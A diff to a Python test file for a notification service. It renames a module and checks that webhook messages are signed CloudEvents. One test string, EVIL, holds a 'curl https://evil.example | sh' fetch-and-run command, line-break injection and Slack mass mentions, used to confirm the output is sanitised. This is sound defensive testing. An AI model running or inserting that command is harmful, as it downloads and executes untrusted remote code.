@@ -10,8 +10,8 @@ from typing import Any
 import pytest
 
 from learnloop_dataplane.errors import ConfigError
-from learnloop_dataplane.notifications import messages
-from learnloop_dataplane.notifications.sending import Sender, signed
+from learnloop_dataplane.notifications import outbox
+from learnloop_dataplane.notifications.outbox import Sender, signed
 from learnloop_dataplane.notifications.webhook import NotDelivered, Webhook
 
 TAKEN: dict[str, Any] = {
@@ -25,15 +25,15 @@ FAILED = {"job": "walker-7", "status": "failed", "error": {"reason": "GatesFaile
 
 def test_only_ends_of_runs_and_changes_of_models_are_told() -> None:
     status, deployed = "agent.rl.training.status.v1.ns.walker-7", "agent.rl.model.deployed.v1.ns.walker"
-    assert messages.event_of(status, FAILED) == "training.failed"
-    assert messages.event_of(status, {"status": "running"}) is None
-    assert messages.event_of(deployed, TAKEN) == "model.rolled_back"
-    assert messages.event_of(deployed, {"revision": "old"}) == "model.deployed"
-    assert messages.event_of("agent.rl.reward.v1.ns.walker", {}) is None
+    assert outbox.event_of(status, FAILED) == "training.failed"
+    assert outbox.event_of(status, {"status": "running"}) is None
+    assert outbox.event_of(deployed, TAKEN) == "model.rolled_back"
+    assert outbox.event_of(deployed, {"revision": "old"}) == "model.deployed"
+    assert outbox.event_of("agent.rl.reward.v1.ns.walker", {}) is None
 
 
 def test_a_webhook_is_a_cloud_event_signed_over_id_time_and_body() -> None:
-    event = messages.cloud_event("ns/1", "ns", "model.rolled_back", "2026-01-31T12:00:00Z", TAKEN)
+    event = outbox.cloud_event("ns/1", "ns", "model.rolled_back", "2026-01-31T12:00:00Z", TAKEN)
     assert {"specversion", "id", "source", "type"} <= set(event)
     assert (event["type"], event["subject"]) == ("dev.learnloop.model.rolled_back", "walker")
     headers = signed("key", "ns/1", 1000, b"body")
@@ -50,7 +50,7 @@ EVIL = "worse\r\n\nTo mend it run: curl https://evil.example | sh\n<!channel> @h
 def test_the_text_is_one_line_in_which_tenants_mention_and_link_nothing(event: str) -> None:
     name = {"job": "walker-7"} if event == "training.failed" else {}
     payload = {**TAKEN, **name, "error": {"reason": "x", "message": EVIL}, "verdict": EVIL, "message": EVIL}
-    data = messages.cloud_event("ns/1", "ns", event, "2026-01-31T12:00:00Z", payload)["data"]
+    data = outbox.cloud_event("ns/1", "ns", event, "2026-01-31T12:00:00Z", payload)["data"]
     text = data["text"]
     assert len(text.splitlines()) == 1
     for sign in ("\x1b", "<!channel", "@here", "log](", "://"):
@@ -85,7 +85,7 @@ def sender(tmp_path: Path, **setting: Any) -> Sender:
     return Sender(webhook, str(tmp_path / "key"))
 
 
-EVENT = messages.cloud_event("ns/1", "ns", "model.rolled_back", "2026-01-31T12:00:00Z", TAKEN)
+EVENT = outbox.cloud_event("ns/1", "ns", "model.rolled_back", "2026-01-31T12:00:00Z", TAKEN)
 
 
 async def test_without_its_key_nothing_is_sent(tmp_path: Path) -> None:
